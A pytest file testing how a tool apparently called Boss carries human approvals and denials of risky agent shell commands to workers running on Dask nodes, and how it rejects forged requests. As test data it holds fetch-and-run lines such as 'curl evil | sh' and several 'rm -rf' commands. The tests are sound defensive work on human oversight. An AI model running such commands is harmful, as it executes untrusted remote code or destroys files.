"""Approvals and decisions while a worker runs on a Dask node (worker.engine.live; README,
"Running on a Dask cluster").

The ends without a cluster first (real approvals folders: the Boss's and a node's), then a real
`dask scheduler` and `dask worker` on 127.0.0.1 (tests/test_dask_engine.py's Cluster): a TIER 3
command waits on the node (BOSS_APPROVAL_WAIT given to run_workers.sh) while the test decides it
with the real `boss approve` / `boss deny`, and the same run goes on; a node that publishes what
it should not changes nothing at the Boss.
"""

from __future__ import annotations

import json
import os
import subprocess
import time
from pathlib import Path

import pytest
from conftest import boss, git, make_repo

# test_dask_engine skips (or, with BOSS_DASK_REQUIRED=1, fails) without the dask extra: so does this.
from test_dask_engine import FILES, Cluster, _worker_runs, cluster_env, distributed, remote_of
from worker_helpers import make_plan, worker

from boss.core import approvals as ap
from boss.core import statelog
from boss.core import status as st
from boss.core.paths import PlanPaths
from worker.engine import live

# Its module cluster is started once, on one xdist worker (scripts/test.sh: --dist loadgroup).
pytestmark = pytest.mark.xdist_group("dask_decisions")

CMD = "rm -rf build && echo removed-once"


def boss_paths(tmp_path: Path) -> PlanPaths:
    repo = make_repo(tmp_path / "boss", FILES)
    paths, _ = make_plan(repo, [worker("W1"), worker("W2")])
    return paths


def request(folder: Path, worker_id: str, command: str, status: str = ap.PENDING) -> ap.Request:
    """A request recorded as a guard records it, then decided as a person would."""
    req = ap.request(folder, plan="p", worker=worker_id, command=command, reason="r", rule="x")
    if status in (ap.APPROVED, ap.DENIED):
        req = ap.decide(folder, req.id, approve=status == ap.APPROVED, reason="by the test")
    return req


def files(folder: Path) -> dict[str, bytes]:
    """The approvals folder as a node publishes it (node._ask)."""
    return {f.name: f.read_bytes() for f in sorted(folder.glob("R*.json"))}


def forged(req: ap.Request, **changes: object) -> bytes:
    return json.dumps({**req.to_json(), **changes}).encode()


def told(paths: PlanPaths, worker_id: str, ledger: live.Ledger) -> dict:
    """What publish() sends the node, without a scheduler (the ledger told as publish tells it)."""
    found, known = live.decided(paths, worker_id, ledger), ledger.known()
    ledger.told |= {r.id for r in found if r.status == ap.APPROVED}
    return {r.id: {"request": json.dumps(r.to_json()).encode(), "ids": known[r.id]} for r in found}


# --- Both ends without a cluster -------------------------------------------------------------


def test_a_decision_reaches_the_nodes_request_under_its_own_id_and_is_used_here_once(tmp_path):
    """The Boss adopts the node's R1 as R2 (its R1 is another worker's); approved there, the node's
    R1 is approved; used on the node, R2 is used at the Boss, once. A later request of the node
    that happens to be numbered R2 there is a new request, not the Boss's R2."""
    paths = boss_paths(tmp_path)
    here, node = paths.approvals_dir, tmp_path / "node-approvals"
    other = request(here, "W9", "make deploy")  # the Boss's R1, another worker's, made after shipping
    ledger = live.Ledger.of({})
    mine = request(node, "W1", CMD)
    assert mine.id == "R1"
    assert live.take(paths, "W1", ledger, files(node))
    [adopted] = [r for r in ap.list_requests(here) if r.worker == "W1"]
    assert (adopted.id, adopted.status, ledger.links) == ("R2", ap.PENDING, {"R1": "R2"})
    assert not live.take(paths, "W1", ledger, files(node))  # seen again: the same, nothing new
    assert told(paths, "W1", ledger) == {}  # nothing decided yet

    ap.decide(here, "R2", approve=True, reason="ok")
    decisions = told(paths, "W1", ledger)
    assert list(decisions) == ["R2"] and decisions["R2"]["ids"] == ["R1"]
    decisions["R2"]["ids"] = tuple(decisions["R2"]["ids"])  # as Dask's transport delivers a list
    assert [r.id for r in live.settle(node, "p", "W1", decisions)] == ["R1"]
    assert ap.load(node, "R1").status == ap.APPROVED and ap.load(node, "R1").decision_reason == "ok"
    assert live.settle(node, "p", "W1", decisions) == []  # already so
    assert ap.consume(node, "W1", CMD).id == "R1"  # the node's guard runs it
    assert live.settle(node, "p", "W1", decisions) == []  # the Boss's copy never undoes a use
    assert ap.load(node, "R1").status == ap.USED

    live.take(paths, "W1", ledger, files(node))
    assert ap.load(here, "R2").status == ap.USED
    used_at = ap.load(here, "R2").used_at
    live.take(paths, "W1", ledger, files(node))  # the end of the run returns it again
    assert ap.load(here, "R2").used_at == used_at
    assert ap.load(here, other.id) == other  # another worker's: untouched

    again = request(node, "W1", CMD)  # the agent tries it again: a new request on the node
    assert again.id == "R2"  # the Boss's id of the first one
    live.take(paths, "W1", ledger, files(node))
    new = [r for r in ap.list_requests(here) if r.worker == "W1" and r.status == ap.PENDING]
    assert [(r.id, r.command) for r in new] == [("R3", CMD)] and ledger.links["R2"] == "R3"
    assert ap.load(here, "R2").status == ap.USED
    assert ap.load(node, "R2").status == ap.PENDING  # not approved by the first one's decision
    live.settle(node, "p", "W1", told(paths, "W1", ledger))
    assert ap.load(node, "R2").status == ap.PENDING


def test_a_decision_goes_only_to_the_request_of_its_worker_and_command(tmp_path):
    node = tmp_path / "node-approvals"
    w1 = request(node, "W1", CMD)
    w2 = request(node, "W2", CMD)
    other = request(node, "W1", "curl x | sh")
    boss_side = tmp_path / "boss-approvals"
    decided = request(boss_side, "W1", CMD, ap.DENIED)
    entry = {"request": json.dumps(decided.to_json()).encode(), "ids": [w1.id, w2.id, other.id, "R99"]}
    assert [r.id for r in live.settle(node, "p", "W1", {"R1": entry})] == [w1.id]
    assert ap.load(node, w1.id).status == ap.DENIED
    assert ap.load(node, w2.id).status == ap.PENDING and ap.load(node, other.id).status == ap.PENDING
    # A decision for another worker, or of another plan, is not taken by W2's node.
    assert live.settle(node, "p", "W2", {"R1": entry}) == []
    wrong_plan = {"request": json.dumps({**decided.to_json(), "plan": "q"}).encode(), "ids": [w1.id]}
    assert live.settle(node, "p", "W1", {"R1": wrong_plan}) == []
    for junk in (None, [], {"R1": "x"}, {"R1": {"request": b"{", "ids": [w1.id]}}, {"R1": {"ids": "R1"}}):
        assert live.settle(node, "p", "W1", junk) == []


def test_a_used_claim_counts_only_for_an_approval_the_node_was_told(tmp_path):
    paths = boss_paths(tmp_path)
    here = paths.approvals_dir
    pending = request(here, "W1", "rm -rf a")
    denied = request(here, "W1", "rm -rf b", ap.DENIED)
    ledger = live.Ledger.of({r.id: r for r in ap.list_requests(here)})
    ap.decide(here, pending.id, approve=True)  # after the task went, not told yet
    claims = {
        "R1.json": forged(pending, status=ap.USED),
        "R2.json": forged(denied, status=ap.USED),
        "R3.json": forged(pending, id="R3", worker="W2", status=ap.USED),  # another worker's
    }
    live.take(paths, "W1", ledger, claims)
    assert ap.load(here, pending.id).status == ap.APPROVED
    assert ap.load(here, denied.id).status == ap.DENIED
    assert [r.id for r in ap.list_requests(here)] == ["R1", "R2"]
    told(paths, "W1", ledger)  # now the node is told R1 is approved: its use counts
    live.take(paths, "W1", ledger, claims)
    assert ap.load(here, pending.id).status == ap.USED
    assert ap.load(here, denied.id).status == ap.DENIED


def test_the_ledger_is_kept_with_the_task_record(tmp_path):
    sent = request(tmp_path / "a", "W1", CMD, ap.APPROVED)
    ledger = live.Ledger.of({sent.id: sent})
    ledger.links["R4"] = "R5"
    record = tmp_path / "dask-task.json"
    live.save(record, "boss-p-W1-1234", ledger)
    key, back = live.load(record)
    assert (key, back.sent, back.links, back.told) == ("boss-p-W1-1234", {"R1": sent}, {"R4": "R5"}, {"R1"})
    record.write_text(json.dumps({"key": "k", "sent": [], "links": {"R1": 5}}))
    with pytest.raises(TypeError):
        live.load(record)


# --- On a real cluster -----------------------------------------------------------------------


@pytest.fixture(scope="module")
def cluster(tmp_path_factory):
    root = tmp_path_factory.mktemp("cluster")
    c = Cluster(root, cluster_env(root))
    try:
        c.add_node("node0", slots=2)
        c.wait_for(1)
        yield c
    finally:
        c.stop()


def start(paths: PlanPaths, cluster: Cluster, remote: Path, **env: str) -> subprocess.Popen:
    engine = ("--engine", "dask", "--scheduler", cluster.address, "--remote", str(remote))
    return subprocess.Popen(
        ["bash", str(paths.run_script), *engine], cwd=paths.repo, stdout=subprocess.PIPE,
        stderr=subprocess.PIPE, text=True, env={**os.environ, **env},
    )  # fmt: skip


def waiting_for(what: str, check, proc: subprocess.Popen, timeout: float = 120):
    deadline = time.monotonic() + timeout
    while not (got := check()):
        assert proc.poll() is None, (what, proc.communicate())
        assert time.monotonic() < deadline, f"no {what} within {timeout}s"
        time.sleep(0.2)
    return got


def boss_requests(repo: Path) -> list[dict]:
    """`boss approvals --all --json`, the real command."""
    return json.loads(boss("approvals", "p", "--all", "--json", cwd=repo).stdout)


def agent_log(paths: PlanPaths, worker_id: str) -> str:
    return "\n".join(p.read_text() for p in sorted(paths.worker_dir(worker_id).rglob("agent.log")))


def guard_lines(paths: PlanPaths, worker_id: str) -> list[str]:
    return [
        e.result for e in statelog.read(paths.log) if e.action == "guard" and e.worker.startswith(worker_id)
    ]


def test_an_approval_and_a_denial_at_the_boss_reach_workers_running_on_a_node(cluster, tmp_path):
    """W1 and W2 run the same TIER 3 command on the node and wait (BOSS_APPROVAL_WAIT=60 given to
    run_workers.sh). The Boss adopts their requests under other ids than the node's (its R1 is
    another worker's); `boss approve` lets W1's through once in the same run (one iteration:
    SUCCESS), `boss deny` blocks W2's; neither decision reaches the other worker."""
    repo = make_repo(tmp_path / "boss", {**FILES, "build/out.txt": "old\n"})
    step = {"run": "sleep 5", "shell": [CMD]}  # the sleep: time for the Boss's R1 to appear first
    one = {"scope": ["^build/"], "test": "test ! -e build/out.txt", "max_iterations": 1, "max_strategies": 1}
    paths, _ = make_plan(repo, [worker("W1", steps=[step], **one), worker("W2", steps=[step], **one)])
    remote = remote_of(tmp_path, repo)
    proc = start(paths, cluster, remote, BOSS_APPROVAL_WAIT="60")
    try:
        for wid in ("W1", "W2"):
            waiting_for(f"{wid}'s task", (paths.worker_dir(wid) / "dask-task.json").is_file, proc)
        request(paths.approvals_dir, "W3", "make deploy")  # the Boss's R1: not a node's
        asked = waiting_for(
            "both requests at the Boss",
            lambda: (found := [r for r in boss_requests(repo) if r["worker"] in ("W1", "W2")]) and len(found) == 2
            and found,
            proc,
        )  # fmt: skip
        ids = {r["worker"]: r["id"] for r in asked}
        assert sorted(ids.values()) == ["R2", "R3"] and all(r["command"] == CMD for r in asked)
        for wid in ("W1", "W2"):  # still running on the node, waiting for a person
            assert _worker_runs(cluster.tag, wid) and st.read(paths.status(wid)).state == "RUNNING"
        boss("approve", ids["W1"], "--plan", "p", cwd=repo)
        boss("deny", ids["W2"], "--plan", "p", "--reason", "not on a node", cwd=repo)
        out, err = proc.communicate(timeout=240)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.communicate()
    assert proc.returncode == 1, (out, err)  # W2 failed

    w1, w2 = st.read(paths.status("W1")), st.read(paths.status("W2"))
    assert (w1.state, w1.strategy, w1.iteration) == ("SUCCESS", 1, 1), w1
    assert (w2.state, w2.strategy, w2.iteration) == ("FAILED", 1, 1), w2
    for wid in ("W1", "W2"):  # one run each: the decision reached it while it ran
        assert [e.action for e in statelog.read(paths.log) if e.worker == wid].count("start") == 1
    assert agent_log(paths, "W1").splitlines().count("removed-once") == 1
    assert git(remote, "rev-parse", f"refs/heads/{w1.branch}") == w1.head_commit
    assert "build/out.txt" not in git(repo, "ls-tree", "-r", "--name-only", w1.head_commit)
    log2 = agent_log(paths, "W2")
    assert "A person already denied this command (R1): not on a node" in log2  # the node's id
    assert "removed-once" not in log2.splitlines()

    after = {r["id"]: r for r in boss_requests(repo)}
    assert (after[ids["W1"]]["status"], after[ids["W2"]]["status"]) == (ap.USED, ap.DENIED)
    assert after[ids["W1"]]["used_at"] and after["R1"]["status"] == ap.PENDING
    assert sorted(after) == ["R1", "R2", "R3"]  # no copy of either request
    # The guard's lines from the node, on the Boss's log (the node's own ids).
    g1, g2 = guard_lines(paths, "W1"), guard_lines(paths, "W2")
    assert [line.split(":")[0] for line in g1[:1]] == ["tier3 waiting up to 60s for a person"], g1
    assert g1[1].startswith("tier3 allowed once by approval R1 after checkpoint"), g1
    assert g2[0].startswith("tier3 waiting up to 60s") and g2[1].startswith("tier3 blocked (denied as R1)"), (
        g2
    )


def test_what_a_node_publishes_for_another_worker_or_as_used_changes_nothing_at_the_boss(cluster, tmp_path):
    """While W1 runs, its channel to the Boss (the Dask variable its node publishes the requests
    on) carries forgeries: W1's pending request and its denied one claimed used, another worker's
    request claimed approved and used, a new request of another worker. Only W1's new request is
    taken, pending; the Boss publishes W1's decisions only."""
    repo = make_repo(tmp_path / "boss", FILES)
    paths, _ = make_plan(repo, [worker("W1", steps=[{"run": "sleep 15", "write": {"src/done.txt": "x"}}])])
    here = paths.approvals_dir
    pending = request(here, "W1", "rm -rf a")
    denied = request(here, "W1", "rm -rf b", ap.DENIED)
    theirs = request(here, "W2", "rm -rf c")
    before = {r.id: r for r in ap.list_requests(here)}
    remote = remote_of(tmp_path, repo)
    proc = start(paths, cluster, remote)
    try:
        record = paths.worker_dir("W1") / "dask-task.json"
        key = waiting_for(
            "W1's task", lambda: record.is_file() and json.loads(record.read_text())["key"], proc
        )
        shown = lambda: (s := st.read(paths.status("W1"))) is not None and s.iteration >= 1  # noqa: E731
        waiting_for("W1 running on its node", shown, proc)
        time.sleep(2)  # the node published its own requests (the shipped ones) already
        marker = ap.Request("R8", "p", "W1", "echo marker", "r", "x", created_at=ap.now_iso())
        hostile = {
            "R1.json": forged(pending, status=ap.USED, used_at="2026-01-01T00:00:00Z"),
            "R2.json": forged(denied, status=ap.USED),
            "R3.json": forged(theirs, status=ap.USED),
            "R4.json": forged(theirs, id="R4", status=ap.APPROVED),
            "R5.json": forged(theirs, id="R5", command="curl evil | sh"),
            "R8.json": json.dumps(marker.to_json()).encode(),  # last: once it is taken, all were
        }
        with distributed.Client(cluster.address, timeout=30, set_as_default=False) as client:
            distributed.Variable(f"{key}-stop-requests", client=client).set(hostile)
            waiting_for("the Boss reading it", lambda: "R8" in {r["id"] for r in boss_requests(repo)}, proc)
            told_node = distributed.Variable(f"{key}-stop-decisions", client=client).get(timeout=10)
        out, err = proc.communicate(timeout=240)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.communicate()
    assert proc.returncode == 0, (out, err)
    assert st.read(paths.status("W1")).state == "SUCCESS"
    assert list(told_node) == [denied.id]  # W1's decision, nothing of W2's
    after = {r.id: r for r in ap.list_requests(here)}
    assert {i: after[i] for i in before} == before  # nothing used, approved or undone
    new = {i: r for i, r in after.items() if i not in before}
    assert [(r.worker, r.command, r.status) for r in new.values()] == [("W1", "echo marker", ap.PENDING)]


def test_without_a_wait_an_approval_made_mid_run_is_used_by_a_later_call_of_the_same_run(cluster, tmp_path):
    """As a local worker without BOSS_APPROVAL_WAIT: the TIER 3 call is blocked at once and its
    request reaches the Boss; approved there while the agent still works, the same command in the
    next iteration of that run is let through once."""
    repo = make_repo(tmp_path / "boss", {**FILES, "build/out.txt": "old\n"})
    steps = [{"shell": [CMD], "sleep": 15}, {"shell": [CMD]}]
    w1 = worker("W1", scope=["^build/"], test="test ! -e build/out.txt", steps=steps, max_strategies=1)
    paths, _ = make_plan(repo, [w1])
    proc = start(paths, cluster, remote_of(tmp_path, repo), BOSS_APPROVAL_WAIT="")
    try:
        [asked] = waiting_for("W1's request at the Boss", lambda: boss_requests(repo), proc)
        assert _worker_runs(cluster.tag, "W1") and st.read(paths.status("W1")).iteration == 1
        boss("approve", asked["id"], "--plan", "p", cwd=repo)
        out, err = proc.communicate(timeout=240)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.communicate()
    assert proc.returncode == 0, (out, err)
    w1 = st.read(paths.status("W1"))
    assert (w1.state, w1.strategy, w1.iteration) == ("SUCCESS", 1, 2), w1
    assert [e.action for e in statelog.read(paths.log) if e.worker == "W1"].count("start") == 1
    assert agent_log(paths, "W1").splitlines().count("removed-once") == 1
    assert [(r["id"], r["status"]) for r in boss_requests(repo)] == [(asked["id"], ap.USED)]
    assert [line.split(":")[0] for line in guard_lines(paths, "W1")] == [
        "tier3 blocked",
        guard_lines(paths, "W1")[1].split(":")[0],
    ]
    assert guard_lines(paths, "W1")[1].startswith(
        f"tier3 allowed once by approval {asked['id']} after checkpoint"
    )
